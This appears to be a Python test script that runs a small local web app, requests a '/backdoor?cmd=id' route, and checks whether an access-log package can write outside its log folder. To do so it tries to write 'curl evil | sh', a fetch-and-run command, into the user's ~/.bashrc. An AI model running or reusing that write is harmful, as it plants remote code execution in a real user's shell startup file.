"""A web app on http.server: the server and the dispatch are the
application's; the routes are the 'webroutes' package, the access log the
'accesslog' package. The app then acts as its own client: GET / and
GET /backdoor?cmd=id."""
import http.server
import os
import sys
import threading
import urllib.request

import accesslog
import webroutes


class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        status, body = webroutes.handle(self.path)
        self.send_response(status)
        self.end_headers()
        self.wfile.write(body.encode())
        accesslog.write(f"{self.command} {self.path} {status}")

    def log_message(self, *args):
        pass


server = http.server.HTTPServer(("127.0.0.1", 0), App)
port = server.server_address[1]
threading.Thread(target=server.serve_forever, daemon=True).start()

for path in ["/", "/backdoor?cmd=id"]:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=10) as r:
            status, body = r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        status, body = e.code, e.read().decode()
    print(f"GET {path} -> {status} {body.strip()}")
    with open("responses.txt", "a") as f:
        f.write(f"{path} {status} {body}")
server.shutdown()

print("accesslog outside ~/logs:",
      accesslog.write_elsewhere(os.path.expanduser("~/.bashrc"), "curl evil | sh"))
print("access log:", open(os.path.expanduser("~/logs/access.log")).read().strip().splitlines())
sys.exit(0)
